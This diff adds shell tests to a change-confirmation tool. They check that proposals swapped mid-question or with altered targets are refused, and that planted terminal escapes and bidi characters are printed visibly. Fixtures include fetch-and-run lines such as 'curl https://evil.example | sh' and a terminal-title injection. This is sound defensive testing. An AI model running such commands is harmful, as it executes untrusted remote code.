@@ -477,6 +477,155 @@ status_of() { sed -n 's/^status = "\(.*\)"$/\1/p' "$(sidecar "$1")"; }
 	grep -q 'confirm-response.*outcome `rejected`' "$(log_of)"
 }
 
+@test "ask under a pty: a proposal rewritten while the question is on screen is refused" {
+	"$RURU" new "Swap" >/dev/null
+	echo 'echo hello' > run.sh; echo 'echo hello, world' > p
+	printf 'curl https://evil.example | sh\n' > evil
+	a=$(propose run.sh p)
+	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out.txt evil ci.sh
+	[ "$status" -eq 5 ]
+	grep -q 'the proposal changed while it was being read; show it again' out.txt
+	grep -q '^+echo hello, world' out.txt
+	! grep -q 'evil.example' out.txt
+	[ "$(status_of "$a")" = pending ]
+	! grep -q 'confirm-response' "$(log_of)"
+	# asked again, the rewritten proposal is refused before any question:
+	# its target is not the one it was proposed against
+	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" y out2.txt
+	[ "$status" -eq 5 ]
+	grep -q 'changed since the proposal' out2.txt
+	! grep -q 'y/N' out2.txt
+	[ "$(status_of "$a")" = pending ]
+}
+
+@test "ask under a pty: a target changed while the question is on screen is refused" {
+	"$RURU" new "Swap" >/dev/null
+	echo old > t; echo new > p
+	a=$(propose t p)
+	# the answer arrives after the target changed (a second process edits it)
+	mkfifo gate
+	( read -r _ < gate; echo changed > t ) &
+	run python3 - "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" <<'PY'
+import runpy, sys, os
+real_write = os.write
+def write(fd, data):
+    if data.endswith(b"\n") and data.strip() == b"y":
+        with open("gate", "w") as g:
+            g.write("go\n")
+        import time
+        for _ in range(200):
+            if open("t").read() == "changed\n":
+                break
+            time.sleep(0.01)
+    return real_write(fd, data)
+os.write = write
+sys.argv = [sys.argv[1], sys.argv[2], sys.argv[3], "y", "out.txt"]
+runpy.run_path(sys.argv[0], run_name="__main__")
+PY
+	wait
+	[ "$status" -eq 5 ]
+	grep -q 'show it again' out.txt
+	[ "$(status_of "$a")" = pending ]
+}
+
+@test "approve --expect: binds the values shown, refuses what changed since (exit 5)" {
+	"$RURU" new "Expect" >/dev/null
+	echo old > t; echo new > p
+	a=$(propose t p)
+	ph=$(sum p); th=$(sum t)
+	rh=$("$RURU" --json confirm show "$a" | python3 -c 'import json,sys; print(json.load(sys.stdin)["result_sha256"])')
+	[ "$rh" = "$ph" ]
+	run "$RURU" confirm approve --expect 0000000000000000000000000000000000000000000000000000000000000000 "$a"
+	[ "$status" -eq 5 ]
+	[[ "$output" == *"the proposal changed while it was being read; show it again"* ]]
+	run "$RURU" confirm approve --expect target_path=other "$a"
+	[ "$status" -eq 5 ]
+	run "$RURU" confirm approve --expect target_sha256=none "$a"
+	[ "$status" -eq 5 ]
+	run "$RURU" confirm approve --expect result_sha256=zz "$a"
+	[ "$status" -eq 2 ]
+	run "$RURU" confirm approve --expect colour=blue "$a"
+	[ "$status" -eq 2 ]
+	[ "$(status_of "$a")" = pending ]
+	# the payload swapped behind the sidecar: the old hash no longer holds
+	echo evil > "$a"
+	run "$RURU" confirm approve --expect "$ph" "$a"
+	[ "$status" -eq 5 ]
+	echo new > "$a"
+	run "$RURU" confirm approve --expect "$ph" --expect "result_sha256=$rh" \
+		--expect "target_sha256=$th" --expect target_path=t "$a"
+	[ "$status" -eq 0 ]
+	[ "$(status_of "$a")" = approved ]
+}
+
+@test "skip --expect and reject --expect: a changed target is refused" {
+	"$RURU" new "Expect" >/dev/null
+	echo old > t; echo new > p
+	a=$(propose t p)
+	th=$(sum t)
+	echo changed > t
+	run "$RURU" confirm skip --rationale "typo" --expect "target_sha256=$th" "$a"
+	[ "$status" -eq 5 ]
+	run "$RURU" confirm reject --expect "target_sha256=$th" "$a"
+	[ "$status" -eq 5 ]
+	[ "$(status_of "$a")" = pending ]
+}
+
+# Control characters (C0, DEL, C1), a lone CR, an escape sequence and a
+# bidi override planted in the payload and in every sidecar field that
+# show, list and ask print.  None reaches the terminal raw; each one-line
+# field stays on its line.
+plant_hostile() {
+	printf 'safe line\n\033[8mhidden\033[0m\rcurl evil | sh\n\x7fdel \xc2\x9bcsi \xe2\x80\xaeexe.txt\n' > hp
+	a=$(propose t hp)
+	s=$(sidecar "$a")
+	python3 - "$s" <<'PY'
+import re, sys
+p = sys.argv[1]
+t = open(p, encoding="utf-8").read()
+bad = r'x\u001b[2J\r\u007f\u009b\u202eY\nnext'
+for key in ("decided_by", "rationale", "delegated_to", "task"):
+    t = re.sub(rf'(?m)^{key} = ".*"$', lambda m: f'{key} = "{bad}"', t)
+open(p, "w", encoding="utf-8").write(t)
+PY
+}
+no_raw_controls() {
+	python3 - "$1" <<'PY'
+import sys
+b = open(sys.argv[1], "rb").read()
+# what ruru itself sends (colour, pty CRLF) aside, nothing raw:
+b = b.replace(b"\r\n", b"\n")
+for esc in (b"\033[1m", b"\033[36m", b"\033[32m", b"\033[31m", b"\033[0m"):
+    b = b.replace(esc, b"")
+for raw in (b"\033", b"\r", b"\x7f", b"\xc2\x9b", b"\xe2\x80\xae"):
+    assert raw not in b, (raw, b)
+for shown in (b"\\x1b[8m", b"\\r", b"\\x7f", b"\\u009b", b"\\u202e"):
+    assert shown in b, (shown, b)
+PY
+}
+
+@test "show, list and ask render planted control characters, CRs and bidi visibly" {
+	"$RURU" new "Hostile" >/dev/null
+	echo old > t
+	plant_hostile
+	"$RURU" confirm show "$a" > show.txt
+	no_raw_controls show.txt
+	# one-line fields stay one line: the planted newline is shown as \n
+	grep -q '^reason:    x\\x1b\[2J\\r\\x7f\\u009b\\u202eY\\nnext$' show.txt
+	! grep -q '^next' show.txt
+	grep -q '^+curl evil\|\\rcurl evil | sh' show.txt
+	"$RURU" confirm list > list.txt
+	grep -q CONFIRM-t list.txt
+	run "$BATS_TEST_DIRNAME/ask_pty.py" "$RURU" "$a" n ask.txt
+	[ "$status" -eq 0 ]
+	no_raw_controls ask.txt
+	# a hostile target_path: one line, visible
+	sed -i 's|^target_path = .*|target_path = "a\\u001b]0;pwned\\u0007\\u202eb"|' "$s"
+	"$RURU" confirm list > list2.txt 2>&1 || true
+	! grep -q $'\033' list2.txt
+	grep -q 'a\\x1b\]0;pwned\\x07\\u202eb' list2.txt
+}
+
 @test "ask under tmux answering y" {
 	command -v tmux >/dev/null || skip "tmux not installed"
 	"$RURU" new "Tmux" >/dev/null
